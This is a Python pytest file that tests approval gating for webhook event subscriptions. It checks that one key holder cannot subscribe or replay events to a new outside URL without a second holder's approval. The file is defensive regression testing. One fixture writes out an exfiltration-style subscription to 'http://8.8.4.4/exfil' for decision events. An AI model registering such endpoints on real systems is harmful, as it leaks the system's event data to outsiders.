"""Issue 64/3 through HTTP: a webhook subscription is a governed setting (`event_subscriptions`).
While the scope requires approvals, a URL that would receive event types it does not receive yet
is a request a second, distinct holder approves; until then the subscription is `pending`: nothing
is delivered or replayed to it, and it is not enabled by hand. Reproduced as filed: one holder
subscribed `http://8.8.4.4/exfil` to `decision.created` from the beginning (201) and replayed every
stored event to it (202). No test connects off loopback: the public address is only ever pending."""

from __future__ import annotations

import pytest

from tests.events.receiver import Receiver
from tests.events.test_webhooks import LOOPBACK, dispatch
from tests.releases.support import version

RELEASE_POLICY = "/api/decision/release-policy"
SUBSCRIPTIONS = "/api/events/subscriptions"
EXFIL = {"url": "http://8.8.4.4/exfil", "event_types": ["decision.created"], "from": "beginning"}


@pytest.fixture
def gate(make_app):
    return make_app(env=LOOPBACK)


@pytest.fixture
def keys(issue_key):
    # made before the scope requires approvals: each grant acts at once (one holder each)
    return {"alice": issue_key(permissions="decide,publish,release,admin,approve", holder="service:alice")["api_key"],
            "alice2": issue_key(permissions="admin,approve", holder="service:alice")["api_key"],
            "bob": issue_key(permissions="approve")["api_key"],
            "reader": issue_key(permissions="decide")["api_key"]}


@pytest.fixture
def receiver():
    made = Receiver()
    yield made
    made.close()


def _h(keys, name):
    return {"x-api-key": keys[name]}


def _require_approvals(client, keys):
    on = client.patch(RELEASE_POLICY, json={"require_approval": True}, headers=_h(keys, "alice"))
    assert on.status_code == 200, on.get_json()


def _subscriptions(client, keys):
    return {s["subscription_id"]: s for s in
            client.get(SUBSCRIPTIONS, headers=_h(keys, "alice")).get_json()["subscriptions"]}


def test_defect_3_one_holder_no_longer_subscribes_an_endpoint_nor_replays_to_it(gate, keys):
    client = gate.test_client()
    assert client.post("/api/decision/rulebooks", json=version("v1"), headers=_h(keys, "alice")).status_code == 201
    _require_approvals(client, keys)
    made = client.post(SUBSCRIPTIONS, json=EXFIL, headers=_h(keys, "alice"))
    assert made.status_code == 202, made.get_json()
    body = made.get_json()
    assert body["requested"] is True and body["secret"].startswith("whsec_")
    assert body["subscription"]["status"] == "pending"
    event = body["event"]
    assert (event["setting"], event["action"]) == ("event_subscriptions", "policy_request")
    assert event["weakens"] == ["http://8.8.4.4/exfil: decision.created"]
    sid = body["subscription"]["subscription_id"]
    # nothing is sent to it: no replay, no enabling by hand, no delivery
    replayed = client.post(f"{SUBSCRIPTIONS}/{sid}/replay", json={"seq": 1}, headers=_h(keys, "alice"))
    assert replayed.status_code == 409 and replayed.get_json()["error"] == "EVENT_SUBSCRIPTION_PENDING"
    ranged = client.post(f"{SUBSCRIPTIONS}/{sid}/replay", headers=_h(keys, "alice"),
                         json={"since": "2000-01-01T00:00:00Z", "until": "2100-01-01T00:00:00Z"})
    assert ranged.status_code == 409 and ranged.get_json()["error"] == "EVENT_SUBSCRIPTION_PENDING"
    for status in ("active", "disabled"):
        patched = client.patch(f"{SUBSCRIPTIONS}/{sid}", json={"status": status}, headers=_h(keys, "alice"))
        assert patched.status_code == 409 and patched.get_json()["error"] == "EVENT_SUBSCRIPTION_PENDING"
    assert _subscriptions(client, keys)[sid]["status"] == "pending"
    assert gate.extensions["gate"].events.delivery.due() == []  # the dispatcher never sees it
    # nor does alice approve it, with any key of hers
    request_seq = event["seq"]
    for name in ("alice", "alice2"):
        own = client.post(f"{SUBSCRIPTIONS}/approvals", json={"request_seq": request_seq}, headers=_h(keys, name))
        assert own.status_code == 403 and own.get_json()["error"] == "GOVERNANCE_SELF_APPROVAL", own.get_json()
    assert _subscriptions(client, keys)[sid]["status"] == "pending"
    pending = client.get(f"{SUBSCRIPTIONS}/approvals", headers=_h(keys, "alice")).get_json()["pending"]
    assert [p["request_seq"] for p in pending] == [request_seq]


def test_a_second_holder_approves_and_the_endpoint_then_gets_its_events(gate, keys, receiver):
    client = gate.test_client()
    assert client.post("/api/decision/rulebooks", json=version("v1"), headers=_h(keys, "alice")).status_code == 201
    _require_approvals(client, keys)
    made = client.post(SUBSCRIPTIONS, json={"url": receiver.url, "from": "beginning"}, headers=_h(keys, "alice"))
    assert made.status_code == 202, made.get_json()
    receiver.secrets.append(made.get_json()["secret"])
    sid = made.get_json()["subscription"]["subscription_id"]
    dispatch(gate, passes=2)
    assert receiver.headers == []  # pending: not a single post
    denied = client.post(f"{SUBSCRIPTIONS}/approvals", json={"request_seq": made.get_json()["event"]["seq"]},
                         headers=_h(keys, "reader"))
    assert denied.status_code == 403 and denied.get_json()["error"] == "EVENTS_PERMISSION_DENIED"
    approved = client.post(f"{SUBSCRIPTIONS}/approvals", json={"request_seq": made.get_json()["event"]["seq"]},
                           headers=_h(keys, "bob"))
    assert approved.status_code == 200, approved.get_json()
    assert [s["subscription_id"] for s in approved.get_json()["subscriptions"]] == [sid]
    assert approved.get_json()["event"]["action"] == "policy_approve"
    dispatch(gate, passes=2)
    assert receiver.sequences()[:1] == [1] and receiver.rejected == 0  # from the beginning, once approved
    again = client.post(f"{SUBSCRIPTIONS}/{sid}/replay", json={"seq": 1}, headers=_h(keys, "alice"))
    assert again.status_code == 202, again.get_json()
    # the same URL, no wider: nothing new leaves, so it acts at once
    same = client.post(SUBSCRIPTIONS, json={"url": receiver.url, "event_types": ["rulebook.published"]},
                       headers=_h(keys, "alice"))
    assert same.status_code == 201 and same.get_json()["event"]["weakens"] == []
    assert same.get_json()["subscription"]["status"] == "active"


def test_a_request_made_stale_by_another_change_is_refused(gate, keys, receiver):
    client = gate.test_client()
    _require_approvals(client, keys)
    first = client.post(SUBSCRIPTIONS, json={"url": receiver.url}, headers=_h(keys, "alice"))
    second = client.post(SUBSCRIPTIONS, json={"url": receiver.url + "&other=1"}, headers=_h(keys, "alice2"))
    assert (first.status_code, second.status_code) == (202, 202)
    assert client.post(f"{SUBSCRIPTIONS}/approvals", json={"request_seq": first.get_json()["event"]["seq"]},
                       headers=_h(keys, "bob")).status_code == 200
    stale = client.post(f"{SUBSCRIPTIONS}/approvals", json={"request_seq": second.get_json()["event"]["seq"]},
                        headers=_h(keys, "bob"))
    assert stale.status_code == 409 and stale.get_json()["error"] == "GOVERNANCE_SETTING_CHANGED"
    missing = client.post(f"{SUBSCRIPTIONS}/approvals", json={"request_seq": 999}, headers=_h(keys, "bob"))
    assert missing.status_code == 404 and missing.get_json()["error"] == "GOVERNANCE_REQUEST_NOT_FOUND"
    listed = _subscriptions(client, keys)
    assert listed[second.get_json()["subscription"]["subscription_id"]]["status"] == "pending"


def test_without_required_approvals_a_subscription_acts_at_once_as_before(gate, keys, receiver):
    client = gate.test_client()
    made = client.post(SUBSCRIPTIONS, json={"url": receiver.url}, headers=_h(keys, "alice"))
    assert made.status_code == 201 and made.get_json()["requested"] is False and made.get_json()["event"] is None
    assert made.get_json()["subscription"]["status"] == "active"
